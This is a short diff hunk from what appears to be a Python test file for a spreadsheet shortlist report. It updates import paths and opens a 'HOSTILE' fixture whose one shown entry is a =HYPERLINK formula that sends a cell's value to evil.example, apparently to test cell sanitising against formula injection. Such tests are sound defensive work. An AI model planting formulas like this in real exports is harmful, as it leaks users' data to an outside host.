@@ -16,10 +16,10 @@ from shortlist_synthetic import four_towns, small_warehouse
 from typer.testing import CliRunner
 from werkzeug import Response
 
-from connectors.cells import FORMULA_STARTS, safe_frame, safe_text
+from connectors.shared.cells import FORMULA_STARTS, safe_frame, safe_text
 from flows.pipeline.settings import SHORTLIST_DEFAULTS
 from reports import shortlist as sl
-from reports.shortlist_workbook import write_workbook
+from reports.shortlist.workbook import write_workbook
 
 HOSTILE = {
     "11001": '=HYPERLINK("http://evil.example/?leak="&B2,"Béziers")',
